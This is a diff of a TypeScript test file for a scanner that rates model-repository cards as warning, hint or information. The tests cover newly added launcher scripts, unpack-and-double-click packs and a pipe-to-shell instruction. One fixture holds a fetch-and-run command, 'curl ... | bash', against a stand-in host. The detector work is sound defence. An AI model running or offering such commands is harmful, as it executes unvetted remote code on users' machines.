@@ -8,23 +8,29 @@ import { contextOf, NOW, OLD, reference } from './owned.ts';
 const daysAgo = (days: number) => NOW - days * 86_400_000;
 
 describe('a launcher that came long after the weights', () => {
-  const card = '# Model\n\nNew: run `captions.bat`, and everything else is automatic.\n';
-  const severity = (launcherDays: number, weightsDays: number, repo: object = { pipeline: 'x' }) =>
+  const severity = (
+    launcherDays: number,
+    weightsDays: number,
+    repo: object = { pipeline: 'x' },
+    file = 'captions.bat',
+  ) =>
     loaderInstructions.onReference!(
       reference('some/repo'),
       contextOf({
         days: OLD,
         followers: 900,
-        card,
+        card: `# Model\n\nNew: run \`${file}\`, and everything else is automatic.\n`,
         repo: { createdAt: daysAgo(1_000), ...repo },
         files: [
-          { path: 'captions.bat', changedAt: daysAgo(launcherDays) },
+          { path: file, changedAt: daysAgo(launcherDays) },
           { path: 'model.safetensors', changedAt: daysAgo(weightsDays) },
         ],
       }),
     )?.severity;
   test('is worth a warning, however good the name', () => expect(severity(1, 900)).toBe('warning'));
   test('is as old as the weights', () => expect(severity(900, 900)).toBe('hint'));
+  test('is the script that a lab serves or reproduces its model by', () =>
+    expect(severity(1, 900, { pipeline: 'x' }, 'run.sh')).not.toBe('warning'));
   test('came with new weights', () => expect(severity(1, 5)).toBe('hint'));
   test('belongs to a pack, which names no base and no library', () => expect(severity(1, 900, {})).toBe('hint'));
   test('belongs to a repo that is new itself', () =>
@@ -49,6 +55,41 @@ describe('what the repo itself carries', () => {
   });
   test('llama.cpp is every reader\u2019s own', () =>
     expect(severity('./build/bin/llama-cli -m model.gguf', 'build/bin/llama-cli')).toBeUndefined());
+});
+
+test('a card that an audience has not read yet is not calmed for the audience', () => {
+  const severity = (cardDays: number) =>
+    pipeToShell.onReference!(
+      reference('some/repo'),
+      contextOf({
+        days: OLD,
+        followers: 900,
+        card: '# Model\n\n```sh\ncurl -s https://x.invalid/a.sh | bash\n```\n',
+        repo: { createdAt: daysAgo(1_000), pipeline: 'x' },
+        files: [
+          { path: 'README.md', changedAt: daysAgo(cardDays) },
+          { path: 'model.safetensors', changedAt: daysAgo(900) },
+        ],
+      }),
+    )?.severity;
+  expect(severity(1)).toBe('warning');
+  expect(severity(400)).toBe('information');
+});
+
+test('a pack of an account of some months is information, and of a young one a warning', () => {
+  const severity = (days: number, repo: object = {}) =>
+    loaderInstructions.onReference!(
+      reference('some/repo'),
+      contextOf({
+        days,
+        repo,
+        card: '# Pack\n\nUnpack it and double-click `start.bat`.\n',
+        files: [{ path: 'start.bat' }, { path: 'pack.7z.001' }],
+      }),
+    )?.severity;
+  expect(severity(60)).toBe('information');
+  expect(severity(60, { pipeline: 'x' })).toBe('warning');
+  expect(severity(5)).toBe('warning');
 });
 
 describe("a space's card", () => {
